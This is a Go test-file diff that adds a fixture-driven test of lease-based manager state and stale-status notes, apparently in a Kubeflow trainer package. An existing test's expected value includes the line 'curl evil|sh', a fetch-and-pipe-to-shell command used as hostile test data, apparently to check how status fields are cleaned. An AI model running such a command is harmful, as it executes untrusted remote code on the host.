@@ -9,6 +9,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 	trainer "github.com/kubeflow/trainer/v2/pkg/apis/trainer/v1alpha1"
+	coordinationv1 "k8s.io/api/coordination/v1"
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/utils/ptr"
@@ -250,5 +251,40 @@ func TestReadStatusCleans(t *testing.T) {
 	want := Status{Phase: PhaseFailed, Message: "boom", NextStep: "curl evil|sh", NextSteps: []string{"abc"}}
 	if diff := cmp.Diff(want, s); diff != "" {
 		t.Errorf("(-want,+got):\n%s", diff)
+	}
+}
+
+func TestStaleStatusVectors(t *testing.T) {
+	raw, err := os.ReadFile("testdata/stale-status.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var doc struct {
+		Vectors []struct {
+			Name     string
+			Now      time.Time
+			Observed *time.Time
+			Lease    *coordinationv1.LeaseSpec
+			Running  bool
+			Note     string
+		}
+	}
+	if err := json.Unmarshal(raw, &doc); err != nil {
+		t.Fatal(err)
+	}
+	for _, v := range doc.Vectors {
+		t.Run(v.Name, func(t *testing.T) {
+			var lease *coordinationv1.Lease
+			if v.Lease != nil {
+				lease = &coordinationv1.Lease{Spec: *v.Lease}
+			}
+			m := ManagerStateOf(lease, v.Now)
+			if m.Running != v.Running {
+				t.Errorf("running %v, want %v", m.Running, v.Running)
+			}
+			if diff := cmp.Diff(v.Note, m.StaleNote(v.Observed, v.Now)); diff != "" {
+				t.Errorf("note (-want,+got):\n%s", diff)
+			}
+		})
 	}
 }
